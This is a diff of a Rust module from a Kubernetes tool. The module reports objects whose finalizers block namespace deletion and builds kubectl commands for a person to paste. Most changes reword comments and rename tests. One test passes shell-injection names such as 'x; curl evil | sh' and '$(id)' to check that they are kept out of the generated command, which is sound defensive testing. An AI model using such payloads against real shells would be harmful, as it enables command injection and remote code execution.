@@ -1,4 +1,4 @@
-//! What keeps a namespace from being gone: its objects that have a finalizer, and the command for a person.
+//! The objects with finalizers that keep a namespace from being gone, each with a command for a person.
 
 use futures::future::try_join_all;
 use k8s_openapi::api::core::v1::Pod;
@@ -16,31 +16,31 @@ use crate::{
     kubernetes::{kind_api::api_resource, permitted::permitted},
 };
 
-/// A report travels in a history and is read by a person: so many objects are named, the rest counted.
+/// The most objects that a report names. It is kept in a history and read by a person; the rest is counted.
 const MAX_NAMED: usize = 20;
 
-/// How a reason begins that names finalizers.
+/// The start of a reason that names finalizers.
 const FINALIZERS: &str = "waits for the finalizer ";
 
-/// Which objects are looked for.
+/// The objects to look for.
 #[derive(Clone, Copy, PartialEq, Eq)]
 pub(super) enum Which {
     All,
     BeingDeleted,
 }
 
-/// What was found, and the kinds that berth may not list (any more).
+/// The objects found, and the kinds that berth may not list (any more).
 #[derive(Default)]
 pub(super) struct Held {
     pub(super) found: Vec<Remaining>,
     pub(super) refused: Vec<&'static str>,
 }
 
-/// The objects with a finalizer, of every kind that berth may list; pods also while they end.
+/// Returns the objects with a finalizer, of every kind that berth may list. Pods that are ending are included.
 pub(super) async fn held(client: &Client, namespace: &str, which: Which) -> Result<Held, Failure> {
     let mut kinds: Vec<(ApiResource, &'static str, &'static str)> = vec![(ApiResource::erase::<Pod>(&()), "Pod", "")];
     for kind in KINDS.iter().filter(|kind| kind.namespaced) {
-        // One kind in two versions is one list.
+        // A kind in two versions is one list.
         if !kinds.iter().any(|(_, name, group)| (*name, *group) == (kind.kind, kind.group)) {
             kinds.push((api_resource(kind), kind.kind, kind.group));
         }
@@ -56,7 +56,7 @@ pub(super) async fn held(client: &Client, namespace: &str, which: Which) -> Resu
     Ok(held)
 }
 
-/// Nothing if berth may not list them.
+/// Returns `None` if berth may not list the kind.
 async fn held_of(
     client: &Client,
     namespace: &str,
@@ -76,7 +76,7 @@ async fn held_of(
     Ok(Some(found.map(|object| entry(namespace, kind, group, &object.name_any(), object.finalizers())).collect()))
 }
 
-/// How an object is reported. Without a namespace it is one outside all.
+/// Returns the report's entry of an object. An empty namespace means a cluster-scoped object.
 pub(super) fn entry(namespace: &str, kind: &str, group: &str, name: &str, finalizers: &[String]) -> Remaining {
     let resource = kind.to_lowercase() + if group.is_empty() { "" } else { "." } + group;
     let mut target = format!("{resource}/{name}");
@@ -84,8 +84,8 @@ pub(super) fn entry(namespace: &str, kind: &str, group: &str, name: &str, finali
         target += &format!(" -n {namespace}");
     }
     let (reason, command) = match (finalizers, kind) {
-        ([], "Pod") => ("its containers have not ended".to_owned(), format!("kubectl delete {target} --force")),
-        ([], _) => ("was told to go and is still there".to_owned(), String::new()),
+        ([], "Pod") => ("its containers have not stopped".to_owned(), format!("kubectl delete {target} --force")),
+        ([], _) => ("was deleted and still exists".to_owned(), String::new()),
         _ => (
             format!("{FINALIZERS}{}", finalizers.join(", ")),
             format!(r#"kubectl patch {target} --type=json -p='[{{"op":"remove","path":"/metadata/finalizers"}}]'"#),
@@ -95,7 +95,7 @@ pub(super) fn entry(namespace: &str, kind: &str, group: &str, name: &str, finali
     Remaining { object: format!("{kind}/{name}"), reason, command }
 }
 
-/// Finds what has a finalizer among the kinds that berth does not know.
+/// A command that finds objects with finalizers of the kinds that berth does not know.
 pub(super) fn listing(namespace: &str) -> String {
     format!(
         "kubectl api-resources --verbs=list --namespaced -o name | xargs -n1 kubectl get -n {namespace} --ignore-not-found \
@@ -103,22 +103,22 @@ pub(super) fn listing(namespace: &str) -> String {
     )
 }
 
-/// Names of some kinds (roles) may have anything in them, and a person pastes a command into a shell.
+/// Returns whether a name is safe in a shell. Names of some kinds (roles) may contain anything.
 fn is_plain(name: &str) -> bool {
     name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b':' | b'_'))
 }
 
-/// The finalizers that a report names.
+/// Returns the finalizers that an entry names.
 pub(super) fn finalizers(remaining: &Remaining) -> impl Iterator<Item = &str> {
     remaining.reason.strip_prefix(FINALIZERS).into_iter().flat_map(|list| list.split(", "))
 }
 
-/// Whether a report is of an object of that kind.
+/// Returns whether an entry is about an object of the kind.
 pub(super) fn is_of(remaining: &Remaining, kind: &str) -> bool {
     remaining.object.strip_prefix(kind).is_some_and(|rest| rest.starts_with('/'))
 }
 
-/// So many as a person reads.
+/// Limits a report to the objects that a person reads.
 pub(super) fn bounded(mut objects: Vec<Remaining>, namespace: &str) -> Vec<Remaining> {
     let more = objects.len().saturating_sub(MAX_NAMED);
     objects.truncate(MAX_NAMED);
@@ -152,7 +152,7 @@ mod tests {
     }
 
     #[test]
-    fn a_name_with_a_shell_command_in_it_is_not_in_the_command() {
+    fn a_name_with_shell_syntax_is_not_in_the_command() {
         for name in ["x; curl evil | sh", "x`id`", "x' '$(id)"] {
             let remaining = stuck("Role", "rbac.authorization.k8s.io", name);
             assert_eq!(remaining.command, listing("pr-1"), "{name}");
@@ -161,7 +161,7 @@ mod tests {
     }
 
     #[test]
-    fn of_too_many_objects_the_rest_are_counted() {
+    fn objects_beyond_the_limit_are_counted() {
         let objects: Vec<_> = (0..50).map(|n| stuck("ConfigMap", "", &n.to_string())).collect();
         let bounded = bounded(objects, "pr-1");
         assert_eq!(bounded.len(), MAX_NAMED + 1);
